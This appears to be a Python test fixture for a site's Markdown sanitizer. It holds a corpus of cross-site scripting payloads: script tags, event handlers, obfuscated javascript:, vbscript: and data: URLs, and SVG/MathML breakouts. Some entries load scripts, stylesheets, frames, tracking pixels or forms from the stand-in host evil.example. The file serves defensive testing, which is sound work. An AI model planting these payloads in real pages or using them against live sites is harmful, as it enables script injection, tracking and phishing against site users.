"""Markdown written to attack the pages that show it: name → the text a member could post.

Shared by the unit tests (tests/core/test_markdown.py: the HTML that comes out is inert) and the
browser check (tests/e2e/test_hostile_markdown.py: nothing runs and nothing loads in Chromium
under the site's real Content-Security-Policy). Payloads that would run try to set the canary
`window.__pwned` or `document.title`, or to call a dialog, so the browser check sees them.

`HOSTILE_PEOPLE` answers the `mentions` callable: members whose display names (and one whose
URL) are markup, as a profile could hold them.
"""

PWN = "window.__pwned=1;document.title='pwned';alert(1)"
JS = "javascript:window.__pwned=1"

HOSTILE_PEOPLE = {
    "imgnamezzz": ('<img src=x onerror="window.__pwned=1">', "/members/imgnamezzz/"),
    "scriptname": ("</a><script>window.__pwned=1</script>", "/members/scriptname/"),
    "quotename2": ('" onmouseover="window.__pwned=1" x="', "/members/quotename2/"),
    "badurl2345": ("Eve", JS),
    "offsite234": ("Mallory", "//evil.example/members/x/"),
}


def hostile_people(handles: list[str]) -> dict[str, tuple[str, str]]:
    return {handle: HOSTILE_PEOPLE[handle] for handle in handles if handle in HOSTILE_PEOPLE}


CORPUS: dict[str, str] = {
    # Script tags
    "script-plain": f"<script>{PWN}</script>",
    "script-uppercase": f"<SCRIPT>{PWN}</SCRIPT>",
    "script-nested": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "script-broken": f"<script\n>{PWN}</script\n>",
    "script-unclosed": f"<script src=//evil.example/x.js>\n{PWN}",
    "script-in-block": f"<div>\n<script>{PWN}</script>\n</div>",
    "script-in-fence": f"```html\n<script>{PWN}</script>\n```",
    "script-in-fence-info": f'```html"><script>{PWN}</script>\nx\n```',
    "script-in-code-span": f"`<script>{PWN}</script>`",
    "script-src-protocol-relative": "<script src='//evil.example/x.js'></script>",
    # Event handlers
    "img-onerror": f'<img src=x onerror="{PWN}">',
    "img-onerror-unquoted": "<img src=x onerror=window.__pwned=1>",
    "body-onload": f'<body onload="{PWN}">',
    "div-onmouseover": f'<div onmouseover="{PWN}" style="position:fixed;inset:0">hover</div>',
    "a-onclick": f'<a href="#" onclick="{PWN}">click</a>',
    "onerror-in-link-title": f'[x](https://example.org "a\\" onmouseover=\\"{PWN}")',
    "onerror-in-link-url": f'[x](https://example.org/"onmouseover="{PWN})',
    "onerror-in-image-alt": f'![x" onerror="{PWN}](/static/a.png)',
    "onerror-in-image-title": f'![x](/static/a.png "t\\" onerror=\\"{PWN}")',
    "attribute-in-autolink": f'<https://example.org/"onmouseover="{PWN}">',
    "htmx-attributes": '<div hx-get="//evil.example" hx-trigger="load">x</div>',
    "input-autofocus": f'<input autofocus onfocus="{PWN}">',
    "details-ontoggle": f'<details open ontoggle="{PWN}">x</details>',
    # Dangerous URL schemes in links
    "link-javascript": f"[x]({JS})",
    "link-javascript-mixed-case": "[x](JaVaScRiPt:window.__pwned=1)",
    "link-javascript-entities": "[x](&#106;avascript&#58;window.__pwned=1)",
    "link-javascript-hex-entities": "[x](&#x6A;&#x61;vascript:window.__pwned=1)",
    "link-javascript-tab": "[x](<java\tscript:window.__pwned=1>)",
    "link-javascript-newline-entity": "[x](java&#10;script:window.__pwned=1)",
    "link-javascript-percent": "[x](javascript%3Awindow.__pwned=1)",
    "link-javascript-leading-space": "[x](<  javascript:window.__pwned=1>)",
    "link-javascript-control-char": "[x](\x01javascript:window.__pwned=1)",
    "link-vbscript": "[x](vbscript:msgbox(1))",
    "link-data-html": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "link-data-uppercase": "[x](DATA:text/html,<script>window.__pwned=1</script>)",
    "link-file": "[x](file:///etc/passwd)",
    "reference-link-javascript": f"[x][evil]\n\n[evil]: {JS}",
    "reference-link-title-quotes": f'[x][t]\n\n[t]: https://example.org "\\" onmouseover=\\"{PWN}"',
    "angle-bracket-javascript": f"[x](<{JS}>)",
    "autolink-javascript": f"<{JS}>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "autolink-data": "<data:text/html,<script>window.__pwned=1</script>>",
    "nested-brackets": f"[[[x]({JS})]({JS})](https://example.org)",
    "link-in-link": f"[a [b]({JS}) c](https://example.org)",
    # Dangerous URLs in images
    "image-javascript": f"![x]({JS})",
    "image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image-data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "image-vbscript-entities": "![x](&#118;bscript:msgbox(1))",
    "image-offsite": "![tracker](https://evil.example/pixel.png)",
    "image-protocol-relative": "![x](//evil.example/x.png)",
    "image-backslash": "![x](\\\\evil.example/x.png)",
    "image-slash-backslash": "![x](/\\evil.example/x.png)",
    "image-slash-tab-slash": "![x](</\t/evil.example/x.png>)",
    "image-percent-backslash": "![x](/%5Cevil.example/x.png)",
    "image-entity-slash": "![x](&#47;/evil.example/x.png)",
    "image-reference-offsite": "![x][img]\n\n[img]: //evil.example/x.png",
    "image-inside-link": f"[![x](/static/a.png)]({JS})",
    "offsite-image-inside-link": "[![x](https://evil.example/x.png)](https://example.org)",
    "link-inside-image-alt": f"![[x]({JS})](/static/a.png)",
    # SVG and MathML
    "svg-script": f"<svg><script>{PWN}</script></svg>",
    "svg-onload": f'<svg onload="{PWN}"/>',
    "svg-foreign-object": f'<svg><foreignObject><img src=x onerror="{PWN}"></foreignObject></svg>',
    "svg-animate-href": f'<svg><a><animate attributeName=href values="{JS}"/><text>x</text></a>',
    "math-href": f'<math><mtext><a href="{JS}">x</a></mtext></math>',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS
    "style-tag": "<style>body{background:url(//evil.example/beacon)}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-attribute": '<p style="background:url(https://evil.example/beacon)">x</p>',
    "style-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-in-table-alignment": "| a |\n|:-:|\n| b |",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Embedding, forms and document-level tags
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name=p><button>Go</button></form>',
    "button-formaction": f'<button formaction="{JS}">x</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/">\n\n[x](/relative)',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "video-poster": '<video poster="https://evil.example/x.png"><source src=x onerror=alert(1)>',
    # Broken, nested and unclosed HTML; comments
    "unclosed-tags": "<div><span><b><i><a href='https://evil.example'>x",
    "unclosed-attribute": f'<img src="x onerror="{PWN}',
    "comment-trick": f"<!--><script>{PWN}</script>-->",
    "comment-in-attribute": f'<a title="<!--"><img src=x onerror="{PWN}">-->',
    "cdata": f"<![CDATA[<script>{PWN}</script>]]>",
    "noscript-breakout": f'<noscript><p title="</noscript><img src=x onerror="{PWN}">">',
    "textarea-breakout": f"<textarea></textarea><script>{PWN}</script>",
    "html-in-heading": f'# <img src=x onerror="{PWN}">',
    "html-in-table": f"| a |\n|---|\n| <script>{PWN}</script> |",
    # Mentions
    "mention-markup-in-display-name": "Hello @imgnamezzz and @scriptname.",
    "mention-quote-in-display-name": "Hi @quotename2!",
    "mention-javascript-url": "Ping @badurl2345",
    "mention-offsite-url": "Ping @offsite234",
    "mention-in-code-and-link": "`@imgnamezzz` [@scriptname](https://example.org) @unknown123",
    # Sizes, nesting and odd characters
    "deep-blockquotes": ">" * 1000 + " deep",
    "deep-brackets": "[" * 1000 + "x" + "]" * 1000 + "(https://example.org)",
    "deep-open-brackets": "[" * 5000,
    "deep-lists": "".join("  " * depth + "- x\n" for depth in range(300)),
    "deep-emphasis": "*" * 2000 + "x" + "*" * 2000,
    "deep-html": "<div>" * 2000 + "x" + "</div>" * 2000,
    "many-links": "[x](https://example.org) " * 2000,
    "nul-bytes": f"a\x00b <scr\x00ipt>{PWN}</script> [x](java\x00script:alert(1))",
    "direction-override": "Open \u202eexe.gpj\u202c and \u2066@x\u2069 [\u202etxt.exe](https://example.org)",
    "zero-width-in-scheme": "[x](java\u200bscript:alert(1))",
    "fullwidth-script": "＜script＞alert(1)＜/script＞",
}
